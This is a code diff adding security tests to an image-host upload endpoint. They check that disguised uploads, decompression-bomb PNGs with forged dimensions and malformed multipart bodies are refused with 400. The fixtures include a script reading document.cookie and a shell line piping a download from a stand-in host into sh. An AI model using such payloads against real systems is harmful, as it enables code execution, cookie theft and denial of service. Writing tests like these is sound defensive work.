@@ -127,6 +127,26 @@ describe(`image host (${databaseKind})`, () => {
       Buffer.from('just some text, not a picture\n'.repeat(20)),
     ],
     [
+      'an HTML page with a script, renamed .png',
+      'car.png',
+      'image/png',
+      Buffer.from(
+        '<!doctype html><html><body><script>alert(document.cookie)</script></body></html>',
+      ),
+    ],
+    [
+      'a shell script renamed .png',
+      'car.png',
+      'image/png',
+      Buffer.from('#!/bin/sh\ncurl http://example.invalid/x | sh\n'),
+    ],
+    [
+      'a JavaScript file renamed .jpg',
+      'car.jpg',
+      'image/jpeg',
+      Buffer.from('fetch("/api/users").then((r) => r.json()).then(console.log);\n'),
+    ],
+    [
       'an SVG',
       'logo.svg',
       'image/svg+xml',
@@ -180,15 +200,63 @@ describe(`image host (${databaseKind})`, () => {
     expect(readdirSync(ctx.imageDir)).toEqual(stored);
   });
 
-  it('refuses a picture with too many pixels (a decompression bomb) with 400', async () => {
-    // A small PNG whose header claims 20000 × 20000 pixels (1.6 GB decoded).
-    const bomb = Buffer.from(await picture('png', 1, 1));
-    bomb.writeUInt32BE(20000, 16);
-    bomb.writeUInt32BE(20000, 20);
-    bomb.writeUInt32BE(crc32(bomb.subarray(12, 29)), 29);
-    const response = await upload(multipart('image', 'bomb.png', 'image/png', bomb));
+  it.each([20000, 30000])(
+    'refuses a picture with too many pixels (a decompression bomb, %i² declared) with 400',
+    async (side) => {
+      const stored = readdirSync(ctx.imageDir);
+      // A tiny PNG whose header claims side × side pixels (30000² is 2.7 GB decoded).
+      const bomb = Buffer.from(await picture('png', 1, 1));
+      bomb.writeUInt32BE(side, 16);
+      bomb.writeUInt32BE(side, 20);
+      bomb.writeUInt32BE(crc32(bomb.subarray(12, 29)), 29);
+      expect(bomb.length).toBeLessThan(200);
+      const response = await upload(multipart('image', 'bomb.png', 'image/png', bomb));
+      expect(response.statusCode).toBe(400);
+      expect(response.json()).toMatchObject({
+        success: false,
+        status: 400,
+        message: 'image: at most 50 megapixels',
+      });
+      expect(readdirSync(ctx.imageDir)).toEqual(stored);
+    },
+  );
+
+  it('refuses a real, highly compressible picture over 50 megapixels with 400', async () => {
+    const stored = readdirSync(ctx.imageDir);
+    // 8000 × 7000 of one colour: a few hundred KB as PNG, 168 MB decoded.
+    const big = await sharp({
+      create: { width: 8000, height: 7000, channels: 3, background: '#fff' },
+      limitInputPixels: false,
+    })
+      .png({ compressionLevel: 9 })
+      .toBuffer();
+    expect(big.length).toBeLessThan(1024 * 1024);
+    const response = await upload(multipart('image', 'huge.png', 'image/png', big));
     expect(response.statusCode).toBe(400);
     expect(response.json().message).toBe('image: at most 50 megapixels');
+    expect(readdirSync(ctx.imageDir)).toEqual(stored);
+  });
+
+  it('answers a multipart body without a boundary, or cut short, with 400 (never 500)', async () => {
+    const stored = readdirSync(ctx.imageDir);
+    for (const [contentType, payload] of [
+      ['multipart/form-data', 'anything'],
+      ['multipart/form-data; boundary=zz', '--zz\r\nContent-Disposition: form-data; name="image"'],
+    ]) {
+      const response = await ctx.app.inject({
+        method: 'POST',
+        url: `/image-host/1/upload?key=${TEST_IMAGE_KEY}`,
+        headers: { 'content-type': contentType },
+        payload,
+      });
+      expect(response.statusCode).toBe(400);
+      expect(response.json()).toMatchObject({
+        success: false,
+        status: 400,
+        message: expect.any(String),
+      });
+    }
+    expect(readdirSync(ctx.imageDir)).toEqual(stored);
   });
 
   it('answers 400 without the field "image" and 415 for a body that is not multipart', async () => {
